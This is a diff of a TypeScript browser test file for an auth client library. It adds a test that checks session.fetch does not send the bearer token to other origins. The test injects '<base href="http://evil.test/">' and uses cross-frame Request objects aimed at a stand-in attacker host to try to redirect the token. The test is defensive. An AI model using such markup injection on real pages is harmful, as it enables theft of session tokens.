@@ -38,6 +38,15 @@ async function bundle(folder: string, authUrl: string, alias: Record<string, str
   return (outputFiles[0] as { text: string }).text;
 }
 
+/** Bundles code for a page. */
+async function bundleOf(code: string): Promise<string> {
+  const { outputFiles } = await build({
+    stdin: { contents: code, resolveDir: import.meta.dirname, loader: 'ts' },
+    ...{ bundle: true, write: false, minify: true, format: 'esm', platform: 'browser' },
+  });
+  return (outputFiles[0] as { text: string }).text;
+}
+
 /** Serves a page and its script from a port of its own. */
 async function serve(t: Test, script: string): Promise<string> {
   const server = createServer((request, response) => {
@@ -91,14 +100,52 @@ t.test('the page of the document signs people in and out in two tabs, with React
   }
 });
 
-t.test('the client is small, and says in a browser what is for services', async t => {
-  const bundleOf = async (code: string) => {
-    const { outputFiles } = await build({
-      stdin: { contents: code, resolveDir: import.meta.dirname, loader: 'ts' },
-      ...{ bundle: true, write: false, minify: true, format: 'esm', platform: 'browser' },
+t.test('no markup, frame or file makes session.fetch send the token elsewhere', { skip }, async t => {
+  const script = await bundleOf(`
+    import { createAuthClient, createUserSession } from '@latchkey/auth-client';
+    const user = { id: '018f0000-0000-7000-8000-000000000001', username: 'ada', email: null, createdAt: '2024-05-06T07:08:09.000Z' };
+    const [renewAt, expiresAt] = [Date.now() + 600_000, Date.now() + 900_000];
+    const store = { load: () => ({ token: 'secret', refreshToken: 'r', renewAt, expiresAt, user }), save: () => undefined };
+    const auth = createAuthClient({ baseUrl: 'http://auth.test' });
+    globalThis.session = createUserSession(auth, { store, origins: ['http://api.test'] });
+  `);
+  const browser: Browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
+  t.teardown(() => browser.close());
+  const context = await browser.newContext();
+  const sent: string[] = [];
+  await context.route(/^http:\/\/\w+\.test\//, async route => {
+    const request = route.request();
+    if (request.headers()['authorization']) sent.push(request.url());
+    await route.fulfill({
+      body: 'fine',
+      headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' },
     });
-    return (outputFiles[0] as { text: string }).text;
+  });
+  const file = join(t.testdir({ 'page.html': PAGE }), 'page.html');
+  const open = async (url: string, html: string) => {
+    const page = await context.newPage();
+    await page.goto(url);
+    if (html !== '') await page.setContent(html);
+    await page.addScriptTag({ content: script, type: 'module' });
+    await page.waitForFunction('globalThis.session');
+    return (expression: string) =>
+      page.evaluate(`${expression}.then(({ status }) => status, error => error.message)`) as Promise<string | number>;
   };
+
+  const led = await open('http://app.test/', '<base href="http://evil.test/">');
+  t.match(await led(`session.fetch('/notes')`), /does not send the token to http:\/\/evil\.test:/);
+  const inFrame = await open('http://app.test/', '<iframe></iframe>');
+  const foreign = (url: string) =>
+    inFrame(`session.fetch(new frames[0].Request('${url}', { method: 'POST', body: '1' }))`);
+  t.match(await foreign('http://evil.test/'), /does not send the token to http:\/\/evil\.test:/);
+  t.equal(await foreign('http://api.test/'), 200);
+  const onDisk = await open(`file://${file}`, '');
+  t.match(await onDisk(`session.fetch('data:text/plain,1')`), /does not send the token to null:/);
+  t.equal(await onDisk(`session.fetch('http://api.test/')`), 200);
+  t.same(sent, ['http://api.test/', 'http://api.test/']);
+});
+
+t.test('the client is small, and says in a browser what is for services', async t => {
   const page = await bundleOf(
     `import { createAuthClient, createLocalStorageStore, createUserSession } from '@latchkey/auth-client';
      globalThis.session = createUserSession(createAuthClient({ baseUrl: '/' }), { store: createLocalStorageStore() });`,
